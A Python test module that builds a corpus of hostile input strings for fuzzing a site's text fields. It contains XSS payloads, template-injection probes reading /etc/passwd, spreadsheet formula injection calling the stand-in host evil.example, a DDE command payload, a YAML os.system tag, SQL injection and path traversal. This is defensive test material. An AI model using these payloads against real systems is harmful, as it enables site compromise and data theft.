"""Strings that no field should survive by luck: families of attacks, each multiplied out in the same order every time.

Whatever runs calls `pwn(1)`, which the browser's tests listen to; whatever loads asks the host evil.example or the path
/pwned, and every request is looked at. Nothing here looks like an e-mail address, a phone number or a person's name:
public fields refuse those for another reason.
"""

from __future__ import annotations

import unicodedata
from itertools import product

__all__ = ["CORPUS", "STRINGS", "unseen"]

IMG = "<img src=x onerror=pwn(1)>"
ADDRESSES = (
    "javascript:pwn(1)", "JaVaScRiPt:pwn(1)", "java\tscript:pwn(1)", "java&#115;cript:pwn(1)", "javascript&colon;pwn(1)",
    "%6aavascript:pwn(1)", "\x01javascript:pwn(1)", "vbscript:pwn(1)", "data:text/html,<script>pwn(1)</script>",
    "data:image/svg+xml,<svg onload=pwn(1)>", "//evil.example/x", "https://evil.example/x.png", "/pwned", "../../pwned",
    "\\\\evil.example\\x",
)  # fmt: skip


def _scripts() -> list[str]:
    return [
        "<script>pwn(1)</script>", "<ScRiPt>pwn(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script/x>pwn(1)</script>",
        "<script\n>pwn(1)</script\n>", "<<script>pwn(1)//<</script>", "</title><script>pwn(1)</script>", "</textarea><script>pwn(1)</script>",
        "</style><script>pwn(1)</script>", "</noscript><script>pwn(1)</script>", "</script><script>pwn(1)</script>", "]]><script>pwn(1)</script>",
        "<script type=module>import'//evil.example/x'</script>", "<script>fetch('/pwned')</script>", "<script>alert(1)</script>",
        "<scr<script>ipt>pwn(1)</scr</script>ipt>", "<script>pwn`1`</script>", "%3Cscript%3Epwn(1)%3C/script%3E", "<template><script>pwn(1)</script>",
        "\uff1cscript\uff1epwn(1)\uff1c/script\uff1e", "‹script›pwn(1)‹/script›", "+ADw-script+AD4-pwn(1)+ADw-/script+AD4-",
        "<\x00script>pwn(1)</script>", "<script\x0c>pwn(1)</script>", "<iframe srcdoc='<script>pwn(1)</script>'>", "<script>import('/pwned')</script>",
    ]  # fmt: skip


def _handlers() -> list[str]:
    tags = (
        "img src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio src=x onerror", "details open ontoggle",
        "input autofocus onfocus", "marquee onstart", "iframe onload", "select autofocus onfocus", "object data=x onerror",
        "p onmouseover", "a href=# onclick", "div style=animation-name:x onanimationstart", "style onload",
    )  # fmt: skip
    shapes = ("<{}=pwn(1)>", '<{}="pwn(1)">', "<{}='pwn(1)'/>", "<{} = pwn(1) ", "</p><{}=pwn(1)>")
    return [shape.format(tag) for tag, shape in product(tags, shapes)]


def _breakouts() -> list[str]:
    opens = ('"', "'", '">', "'>", "`>", '" x="', "&quot;>", "&#34;>", "\\\">", "\u201d>")
    then = (IMG, " onmouseover=pwn(1) ", " autofocus onfocus=pwn(1) x=", ' style="position:fixed;inset:0" ')
    return [start + end for start, end in product(opens, then)]


def _links() -> list[str]:
    shapes = ("[x]({})", "![x]({})", "<{}>", "[x]: {}", '[x](<{}> "y")', "<a href='{}'>x</a>")
    return [shape.format(address) for shape, address in product(shapes, ADDRESSES)]


def _markdown() -> list[str]:
    return [
        "# title", "## title {#pwned}", "title\n=====", "title\n---", "- item", "* item", "+ item", "1. item", "1) item", "> quote", "    code",
        "\tcode", "`code`", "``code``", "```\ncode\n```", "~~~\ncode\n~~~", "```html\n<b>x</b>\n```", "``` { .py onclick=pwn(1) }\nx\n```",
        "**strong**", "__strong__", "*em*", "_em_", "***both***", "~~gone~~", "==mark==", "^^in^^", "H~2~O", "x^2^", "{++in++}", "{--out--}",
        "| a | b |\n|---|---|\n| c | d |", "a | b\n--- | ---\nc | d", "|---|", "***", "- - -", "___", "a  \nb", "a\\\nb", "[x][y]", "[x][]", "[x]", "![x][y]",
        "[^1]", "[^1]: pwned", "text[^1]\n\n[^1]: note", "\\*not em\\*", "\\[x](y)", "\\", "\\\\", "<b>bold</b>", "<div markdown>*x*</div>",
        "<div markdown='1'>\n# x\n</div>", "a <em>b</em> c", "<p>\n\n<b>x", "</div></div></div>", "</article></main>", "<br>", "<hr/>",
        "https://evil.example/auto", "www.evil.example", "++ctrl+alt++", ":smile:", "(c) (tm) 1/2", "$$x$$", "\\(x\\)", "[[wiki]]", "[ ] task", "[x] done",
        "term\n: definition", "line one\n\nline two", "a\r\nb\rc", "a\u2028b\u2029c", "[x]\n\n[x]: //evil.example/x", "&copy; &amp;copy;", "3 < 4 > 2", "a*b_c`d",
    ]  # fmt: skip


def _attributes() -> list[str]:
    return [
        "{: onclick=pwn(1) }", '{: onclick="pwn(1)" }', "{: onmouseover='pwn(1)' #pwned .x }", "{ onclick=pwn(1) }", "x {: onclick=pwn(1) }",
        "x\n{: onclick=pwn(1) }", "# x {: onclick=pwn(1) }", "*x*{: onclick=pwn(1) }", "{: style='position:fixed;inset:0' }", "{: href=javascript:pwn(1) }",
        "{:onclick=pwn(1)}", "}{: onclick=pwn(1) }", "{: #__search }", "{: hidden }", "{#pwned}", "{.md-search}", "![x](y){: onerror=pwn(1) }",
        "[x](y){: onclick=pwn(1) }", "{: class=bn-fig }", "| x {: onclick=pwn(1) } |",
    ]  # fmt: skip


def _templates() -> list[str]:
    return [
        "{{ 7 * 7 }}", "{{ config }}", "{{ self.__init__.__globals__ }}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "{% raw %}",
        "{% endblock %}", "{% import 'os' as x %}", "{# gone #}", "{{ page.meta }}", "{{ super() }}", "{{ x | safe }}", "{%- set x = 1 -%}", "{{", "}}", "{%",
        "--8<-- '/etc/passwd'", ";--8<-- 'x.md'", "${pwn(1)}", "`${pwn(1)}`", "#{pwn(1)}", "<%= pwn(1) %>", "<? pwn(1) ?>", "{{constructor.constructor('pwn(1)')()}}",
        "[[pwn(1)]]", "!ENV PATH", "%(x)s %s %n %d", "{}", "{0}", "{name}", "{n}", "{0.__class__}", "{name!r:>99}", "{title}", "{date} {days}", "$(id)",
        "$HOME", "%PATH%", "$1 $& $' $`", "\\1 \\g<0>", "klzzwxh:0000", "wzxhzdk:0", "\x02klzzwxh:0000\x03", "\x02wzxhzdk:0\x03", "\x02amp\x03",
        "<!-- the cycle is drawn here -->", "{{ lang.t('search') }}", "__proto__", "constructor", "toString", "hasOwnProperty", "undefined", "NaN",
    ]  # fmt: skip


def _entities() -> list[str]:
    return [
        "&lt;script&gt;pwn(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;pwn(1)&amp;lt;/script&amp;gt;", "&#60;img src=x onerror=pwn(1)&#62;",
        "&#x3c;img src=x onerror=pwn(1)&#x3e;", "&#60img src=x onerror=pwn(1)&#62", "&ltimg src=x onerror=pwn(1)&gt", "&LT;img src=x onerror=pwn(1)&GT;",
        "&#0000060;img src=x onerror=pwn(1)&#0000062;", "&NewLine;", "&Tab;", "&colon;", "&nbsp;", "&#0;", "&#x110000;", "&#xd800;", "&bogus;", "&", "&&amp;&",
        "&amp;amp;amp;", "&#34;&#39;&#96;", "&lpar;&rpar;", "&quot; onclick=pwn(1) &quot;", "&shy;", "&#8238;abc", "AT&T", "&not in", "&copy=1&lang=fr",
    ]  # fmt: skip


def _drawings() -> list[str]:
    return [
        "<svg/onload=pwn(1)>", "<svg><script>pwn(1)</script></svg>", "<svg><a xlink:href=javascript:pwn(1)><text>x", "<svg><use href=//evil.example/x#y>",
        "<svg><image href=//evil.example/x.png>", "<svg><animate onbegin=pwn(1) attributeName=x>", "<svg><set attributeName=href to=javascript:pwn(1)>",
        "<svg><foreignObject><img src=x onerror=pwn(1)>", "</svg><script>pwn(1)</script>", "</title></svg>" + IMG, "<svg><style>*{display:none}</style>",
        "<math><mi href=javascript:pwn(1)>x", "<math><mtext><img src=x onerror=pwn(1)>", "<math><style><img src=x onerror=pwn(1)>",
        "<math href=javascript:pwn(1)>x</math>", "<svg><desc><![CDATA[</desc><script>pwn(1)</script>]]>", "<svg><g/onload=pwn(1)//<p>", "\n\n<svg>\n\n",
    ]  # fmt: skip


def _styles() -> list[str]:
    return [
        "<style>body{display:none}</style>", "<style>@import'//evil.example/x.css'</style>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=preload as=script href=/pwned>", "<meta http-equiv=refresh content=0;url=//evil.example/>", "<base href=//evil.example/>",
        "<p style=background:url(//evil.example/x)>", "<p style='position:fixed;inset:0;z-index:9'>", "x;background:url(//evil.example/x)", "expression(pwn(1))",
        "</style>", "*/ body{display:none} /*", "<form action=//evil.example/><input name=x>", "<button formaction=javascript:pwn(1)>x", "<embed src=//evil.example/x>",
        "<object data=//evil.example/x>", "<iframe src=//evil.example/>", "<frameset onload=pwn(1)>", "<plaintext>", "<xmp>", "<listing>", "<textarea>", "<title>", "<noscript>",
        "<table><tr><td>", "</table>", "<select><option>", "<dialog open>x</dialog>", "<slot>", "<portal src=//evil.example/>", "<img srcset='//evil.example/x 1x'>",
    ]  # fmt: skip


def _comments() -> list[str]:
    return [
        "<!-- x -->", "<!--", "-->", "<!-->", "--!>" + IMG, "<!-- --!>" + IMG, "<![CDATA[ x ]]>", "]]>", "<?php echo 1 ?>", "<?xml version='1.0'?>", "<!DOCTYPE html>",
        "<!ENTITY x SYSTEM '/etc/passwd'>", "<!--[if IE]><script>pwn(1)</script><![endif]-->", "<!--><script>pwn(1)</script>-->", "<% pwn(1) %>",
    ]  # fmt: skip


def _unseen() -> list[str]:
    bidi = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    controls = "\x00\x01\x02\x03\x07\x08\x0b\x0c\x0e\x1a\x1b\x1c\x1f\x7f\x80\x85\x9b\x9f\ufffe\uffff\ufdd0"
    zero = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u3164\u034f\u115f\ufe0f\u2800\U000e0041"
    around = [f"avant{mark}txet tidder{mark}après" for mark in bidi]
    inside = [f"con{mark}trôle" for mark in controls] + [f"lar{mark}geur" for mark in zero]
    nothing = ["\u202e", "\u200b", "\u2066\u2069", "\x00", "\u3164", "\x85\u2028", "\ufeff \ufeff", "\x02\x03", "\ufe0f", "\U000e0101", "\u115f\u1160"]
    return [*around, *inside, *nothing, "\x1b[31mrouge\x1b[0m", "\x1b]0;titre\x07", "\u202e<script>pwn(1)</script>", "<\u200bscript>pwn(1)</script>"]


def _long() -> list[str]:
    units = ("a", "W", "_", "/", ".", "-", "é", "漢", "👍", "a\u0301", "\u00a0", "ا", "&", "<b>", "x.y/", "\u200d👩", "0", "(", "*", "ﷺ")
    return [(unit * 500)[:500] for unit in units] + ["Donaudampfschifffahrts" * 20, "a " + "b" * 300 + " c", "\u0300" * 300 + "z", "Z" + "\u0336\u0489\u0308" * 90]


def _scripts_of_the_world() -> list[str]:
    return [
        "مرحبا بالعالم", "שלום עולם", "مرحبا <b>x</b> بالعالم", "שלום 123 abc", "漢字とかな交じり文", "中文，标点。", "한국어 문장", "ไทยไม่มีเว้นวรรค" * 4, "हिन्दी में लिखा", "Ελληνικά", "Кириллица",
        "👩‍👩‍👧‍👦 famille", "🇫🇷🇬🇧", "👍🏽", "e\u0301te\u0301", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞", "ﬁ ﬀ ﬃ", "ⅷ ② ½", "𝐛𝐨𝐥𝐝 𝒾𝓉", "İstanbul ıI", "ẞß", "ǅ", "ﷺ ﷽", "\u1f71 \u03ac",
        "« guillemets » ! ? ; : %", "100 % ; vraiment ? oui !", "l’apostrophe l'apostrophe", "“quotes” ‘quotes’", "…—–‑", "\u00a0\u202f\u2009blancs\u3000", "٣ ५ ໓", "ꙮ 𒐫 ﹽ",
    ]  # fmt: skip


def _data_formats() -> list[str]:
    return [
        "yes", "no", "null", "~", "true", "0x1F", "1e9", "0o17", ".inf", "12:30", "2026-01-01", "- a", "a: b", "a: 'b", "&a b", "*a", "!!python/object:os.system x", "|", ">", ">-",
        "%YAML 1.2", "---", "...", "{a: b}", "[a, b]", "# x", "@x", '"x', "'x", "<<: *a", "? x", "key: &x [*x]", "---\ntitle: pwned\n---", "---\ntemplate: 404.html\n---\n# x",
        "title: pwned", "+++\ntitle = 1\n+++", "...\n---\na", "=1+1", '=HYPERLINK("//evil.example","x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "=WEBSERVICE(\"//evil.example\")",
        '{"a": 1}', "a,b;c\td", '"a""b"', "'; DROP TABLE x; --", "1; SELECT 1", "../../etc/passwd", "C:\\x\\y", "file:///etc/passwd", "\\\\x\\y", "nul", "a/b/../c", "x%00y", "BEGIN:VCALENDAR",
        "DTSTART:1\r\nSUMMARY:x", "::error::x", "::set-output name=x::y", "%0A::error::x", "##vso[task]", "title:x^9 +a -b ~1 *", '"unclosed', "(((((", "[a-z]+$", "a" * 30 + "!",
    ]  # fmt: skip


def _engines() -> list[str]:
    return [
        "!!! note", '!!! danger "x"\n    y', "??? x", "???+ x\n    y", '=== "tab"\n    x', "/// note\nx\n///", ":::python", "*[HTML]: pwned", "*[pwn]: x\n\npwn HTML", "[TOC]", "[[_TOC_]]", "{: toc}",
        "x {#id}", "x {: #main }", "```mermaid\ngraph TD\n```", "::: module.x", ".. raw:: html", "@import x", "{{ include('x') }}", "<include src=/etc/passwd>", "\\newcommand", "<!--toc-->",
        "<!-- more -->", "[](){#x}", "+++", "(1) x", "a)", "A. x", "iv. x", "-- x", "0. x", "!!!", "- [ ] x", "x\n\n\n\ny", "(@x)",
    ]  # fmt: skip


CORPUS: dict[str, tuple[str, ...]] = {
    name: tuple(dict.fromkeys(made()))
    for name, made in {
        "script": _scripts, "handler": _handlers, "breakout": _breakouts, "link": _links, "markdown": _markdown, "attr-list": _attributes, "template": _templates,
        "entity": _entities, "drawing": _drawings, "style": _styles, "comment": _comments, "unseen": _unseen, "long": _long, "world": _scripts_of_the_world,
        "data": _data_formats, "engine": _engines,
    }.items()
}  # fmt: skip
STRINGS: tuple[str, ...] = tuple(dict.fromkeys(text for family in CORPUS.values() for text in family))


def unseen(text: str) -> bool:
    """Whether a reader would see nothing at all: blanks, controls, marks and fillers only."""
    hidden = "\u3164\u115f\u1160\uffa0\u2800\u034f\ufe0f\U000e0101"
    return all(c in hidden or unicodedata.category(c)[0] in "ZC" for c in text)
